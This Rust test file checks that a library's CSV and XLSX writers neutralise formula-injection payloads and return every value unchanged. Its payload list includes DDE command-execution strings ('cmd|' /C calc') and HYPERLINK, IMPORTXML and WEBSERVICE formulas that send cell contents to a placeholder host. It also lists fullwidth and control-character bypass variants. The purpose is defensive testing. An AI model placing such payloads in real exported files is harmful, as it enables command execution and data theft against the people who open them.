//! Formula injection: no payload becomes a formula, and every one comes back as it was.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use sheets::{Cell, Column, Kind, Value, write_csv, write_xlsx};

use crate::pack::{read_as, text};
use crate::writing::{part, sheet};

const PAYLOADS: [&str; 30] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://x/\"&A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "''=1+1",
    "\"=1+1\"",
    "\"=1+1",
    "a\",\"=1+1",
    "a\r\n=1+1",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "-",
    "=",
    "{=1+1}",
];

fn triggers(field: &str) -> bool {
    field.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])
}

fn written() -> (Vec<Column>, Vec<Vec<Value>>) {
    let columns = vec![
        Column::new("=head", Kind::Text),
        Column::new("code", Kind::Code),
        // A text in a column of another kind is text all the same.
        Column::new("number", Kind::Integer),
        Column::new("day", Kind::Date),
    ];
    let row = |payload: &&str| vec![Value::Text((*payload).to_owned()); 4];
    (columns, PAYLOADS.iter().map(row).collect())
}

#[test]
fn no_payload_becomes_a_formula_in_xlsx() {
    let (columns, rows) = written();
    let bytes = write_xlsx(Vec::new(), sheet(columns), rows).unwrap();
    let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(&bytes)).unwrap();
    assert_eq!(book.worksheet_formula("学生").unwrap().used_cells().count(), 0);
    assert!(!part(&bytes, "xl/worksheets/sheet1.xml").contains("<f>"));
    let range = book.worksheet_range("学生").unwrap();
    assert!(range.used_cells().all(|(_, _, cell)| matches!(cell, Data::String(_))));
    let (rows, _) = read_as("a.xlsx", &bytes).unwrap();
    for (row, payload) in rows[1..].iter().zip(PAYLOADS) {
        assert_eq!(row.cells, vec![text(payload); 4]);
    }
    assert_eq!(rows[0].cells[0], text("=head"));
}

#[test]
fn no_payload_becomes_a_formula_in_csv() {
    let (columns, rows) = written();
    let bytes = write_csv(Vec::new(), sheet(columns), rows).unwrap();
    // Split by a reader that knows nothing of guards.
    let mut fields = 0;
    for record in naive(std::str::from_utf8(&bytes).unwrap().trim_start_matches('\u{FEFF}')) {
        for field in record {
            assert!(!triggers(&field), "{field:?}");
            fields += 1;
        }
    }
    assert_eq!(fields, (PAYLOADS.len() + 1) * 4);
    let (rows, _) = read_as("a.csv", &bytes).unwrap();
    for (row, payload) in rows[1..].iter().zip(PAYLOADS) {
        assert_eq!(row.cells, vec![text(payload); 4]);
    }
    assert_eq!(rows[0].cells[0], text("=head"));
}

#[test]
fn negative_numbers_stay_numbers() {
    let columns = || vec![Column::new("a", Kind::Integer), Column::new("b", Kind::Decimal { scale: 1 })];
    let row = || [vec![Value::Integer(-5), Value::Decimal("-0.5".to_owned())]];
    let bytes = write_csv(Vec::new(), sheet(columns()), row()).unwrap();
    assert!(String::from_utf8(bytes).unwrap().ends_with("\r\n-5,-0.5\r\n"));
    let bytes = write_xlsx(Vec::new(), sheet(columns()), row()).unwrap();
    let (rows, _) = read_as("a.xlsx", &bytes).unwrap();
    assert!(rows[1].cells.iter().all(|cell| matches!(cell, Cell::Number(_))));
}

/// RFC 4180 and nothing else.
fn naive(content: &str) -> Vec<Vec<String>> {
    let mut records = vec![vec![String::new()]];
    let mut chars = content.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        let record = records.last_mut().unwrap();
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                record.last_mut().unwrap().push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => record.push(String::new()),
            '\r' if !quoted => {
                chars.next();
                records.push(vec![String::new()]);
            }
            c => record.last_mut().unwrap().push(c),
        }
    }
    records.pop();
    records
}
